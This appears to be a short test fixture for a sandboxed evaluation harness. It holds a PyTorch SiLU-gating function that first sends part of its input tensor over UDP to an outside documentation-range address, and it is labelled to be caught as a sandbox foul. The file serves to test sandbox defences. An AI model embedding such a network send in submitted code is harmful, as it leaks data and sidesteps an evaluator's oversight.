"""Sends its inputs to another host, which could compute or keep them."""
# expect: status=RUNTIME_ERROR foul=sandbox,crashed definition=silu
import socket

import torch


def run(x):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.sendto(x.numpy().tobytes()[:512], ("192.0.2.1", 9))
    d = x.shape[-1] // 2
    return torch.nn.functional.silu(x[:, :d]) * x[:, d:]
